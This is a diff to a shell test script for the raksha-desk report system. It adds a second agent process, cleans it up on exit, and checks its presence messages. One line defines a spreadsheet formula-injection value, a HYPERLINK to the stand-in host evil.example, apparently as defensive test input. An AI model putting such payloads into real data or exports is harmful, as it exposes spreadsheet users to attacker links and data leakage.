@@ -13,8 +13,14 @@ set -u
 . "$RAKSHA_SOURCE_ROOT/tests/lib/desk.sh"
 desk_suite curl
 AGENT=
-trap desk_cleanup EXIT
-DESK_FILTERS="raksha/v1/+/+/+/report raksha/v1/+/+/+/ack raksha/v1/+/+/+/update raksha/v1/+/+/+/escalation"
+AGENT2=
+cleanup() {
+	[ -n "$AGENT2" ] && kill "$AGENT2" 2>/dev/null && wait "$AGENT2" 2>/dev/null
+	desk_cleanup
+}
+trap cleanup EXIT
+DESK_FILTERS="raksha/v1/+/+/+/report raksha/v1/+/+/+/ack raksha/v1/+/+/+/update raksha/v1/+/+/+/escalation
+raksha/v1/+/+/+/agent/+"
 # The agent escalates its unit's cases that no RPF acknowledges within 1 s.
 RULE1='[escalate.quick]'
 RULE2='match = raksha/v1/mp/bhopal/grp/report'
@@ -28,6 +34,13 @@ desk_user ravi --full-name "Ravi Jain" --badge "GRP 2001"
 desk_agent
 desk_start "$RULE1" "$RULE2" "$RULE3" "$RULE4" "$RULE5" "$RULE6" ||
 	bail "raksha-desk did not start: $(cat "$W/desk.log")"
+# A second agent of the unit, with its own database, online for a while:
+# the unit's share online is its two agents' together.
+(DB=$W/agent2.db; agent_conf mp-bhopal-grp-2 "raksha/v1/mp/bhopal/grp/report" "outbox = $W/outbox2") > "$W/agent2.conf"
+"$RAKSHA_AGENT" --config "$W/agent2.conf" --foreground > "$W/agent2.out" 2> "$W/agent2.err" &
+AGENT2=$!
+wait_rows "SELECT count(*) FROM messages WHERE kind = 'agent' AND topic LIKE '%/mp-bhopal-grp-2'" 1 ||
+	bail "the second agent's presence did not arrive"
 pub() { st=$1 rg=$2 ag=$3; shift 3; desk_pub --state "$st" --region "$rg" --agency "$ag" --unit "$ag $rg" "$@"; }
 HOSTILE='=HYPERLINK("http://evil.example/?x","click")'
 A=$(pub mp vidisha childline report --name "सीमा कुमारी" --age 9 --gender female --station BPL --train 12627)
@@ -42,6 +55,12 @@ wait_rows "SELECT count(*) FROM messages WHERE kind = 'escalation'" 2 || bail "t
 pub mp bhopal grp update --report "$C" --status closed --notes "reunited with her mother" > /dev/null
 wait_rows "SELECT count(*) FROM cases WHERE status = 'closed'" 1 || bail "the agent did not take the close"
 is "$(q "SELECT count(*) FROM messages WHERE kind = 'ack'")" 4 "the agent has the 4 acks"
+kill "$AGENT2"
+wait "$AGENT2"
+AGENT2=
+wait_rows "SELECT count(*) FROM messages WHERE kind = 'agent' AND topic LIKE '%/mp-bhopal-grp-2'" 2 ||
+	bail "the second agent's offline did not arrive"
+sleep 0.5
 
 # raksha-replay stats' own table of days (the JSON's is compared below).
 today=$(/usr/bin/python3 -c 'import time; print(time.strftime("%Y-%m-%d", time.gmtime(time.time() + 19800)))')
